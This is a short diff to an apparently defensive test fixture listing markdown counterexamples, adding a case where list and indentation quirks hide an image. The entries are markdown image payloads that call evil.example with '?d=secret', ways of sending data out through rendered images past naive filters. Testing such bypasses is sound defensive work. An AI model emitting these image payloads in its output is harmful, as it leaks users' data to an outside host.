@@ -119,6 +119,8 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   // A page that cuts white space off at the beginning sees another list.
   ["images", "\t\n * aa\n      ~~~\n      ![a](https://evil.example/?d=secret)"],
   ["images", "   - aa\n        ```\n        ![a](https://evil.example/?d=secret)"],
+  // In a list marked 18 adds indented code to the lines before it, behind an empty line too.
+  ["images", "- aa\n=\n\n      ~~~\n      ![a](https://evil.example/?d=secret)"],
   // Every line of a quote has its mark, also within an address or a tag; renderers take it away.
   ["images", "> ![a](\n> https://evil.example/?d=secret)"],
   ["images", "![a]\n\n> [a]:\n> https://evil.example/?d=secret"],
